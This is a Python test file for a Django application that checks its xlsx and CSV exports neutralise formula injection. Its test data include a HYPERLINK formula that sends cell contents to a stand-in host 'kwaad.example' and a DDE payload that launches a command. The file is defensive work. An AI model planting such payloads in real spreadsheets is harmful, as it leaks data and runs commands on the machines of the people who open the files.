"""Issue 20, finding 4: text typed or imported by a user never becomes a live formula in an
export. Every export (monitor xlsx, financiering xlsx, access-log CSV) is downloaded with hostile
names in it and read back: no formula cell, no cell starting with = + - @ tab or CR."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from financiering import services
from financiering.constants import Kostencategorie
from loket.models import Verwerking
from loket.spreadsheet import GEVAARLIJKE_BEGINTEKENS, veilige_tekst

from ..factories import OrganisatieFactory

AANVAL = '=HYPERLINK("https://kwaad.example/?"&A1;"klik")'
AANVALLEN = [AANVAL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("tekst", AANVALLEN)
def test_veilige_tekst_neutralises_formula_starts(tekst):
    veilig = veilige_tekst(tekst)
    assert veilig == "'" + tekst and not veilig.startswith(GEVAARLIJKE_BEGINTEKENS)


@pytest.mark.parametrize("waarde", ["Loonkosten", "", "€ 5", 12, 1.5, None, "Ö=1"])
def test_veilige_tekst_leaves_the_rest_alone(waarde):
    assert veilige_tekst(waarde) == waarde


def assert_geen_formules(inhoud: bytes, verwacht: list[str]):
    boek = load_workbook(io.BytesIO(inhoud))
    teksten = []
    for blad in boek.worksheets:
        for rij in blad.iter_rows():
            for cel in rij:
                assert cel.data_type != "f", (blad.title, cel.coordinate, cel.value)
                if isinstance(cel.value, str):
                    assert not cel.value.startswith(GEVAARLIJKE_BEGINTEKENS), cel.value
                    teksten.append(cel.value)
    for tekst in verwacht:  # the text is still there, shown as typed after the apostrophe
        assert "'" + tekst in teksten, tekst


def test_financiering_export(client_as, projectleider, loket):
    begroting = services.haal_begroting(loket, 2026)
    for i, naam in enumerate(AANVALLEN[:4]):
        services.voeg_kostenpost_toe(
            begroting,
            naam=naam,
            categorie=Kostencategorie.MATERIEEL,
            bedrag=Decimal(10 + i),
            door=projectleider,
        )
    OrganisatieFactory(loket=loket, naam="@partner")
    response = client_as(projectleider).get(reverse("financiering:export", args=[2026]))
    assert response.status_code == 200
    assert_geen_formules(response.content, AANVALLEN[:4])


def test_monitor_export(client_as, projectleider, loket):
    loket.naam = AANVAL
    loket.save(update_fields=["naam"])
    response = client_as(projectleider).get(reverse("monitor:export"))
    assert response.status_code == 200
    assert_geen_formules(response.content, [AANVAL])


def test_access_log_csv(client_as, beheerder, loket):
    for onderwerp in AANVALLEN:
        Verwerking.objects.create(
            loket=loket, gebruiker=beheerder, actie=Verwerking.Actie.BEKEKEN, onderwerp=onderwerp
        )
    response = client_as(beheerder).get(reverse("privacy:verwerkingen"), {"export": "csv"})
    assert response.status_code == 200
    tekst = b"".join(response.streaming_content).decode()
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    cellen = [c for rij in rijen for c in rij]
    for cel in cellen:
        assert not cel.startswith(GEVAARLIJKE_BEGINTEKENS), cel
    for onderwerp in AANVALLEN:
        assert "'" + onderwerp in cellen
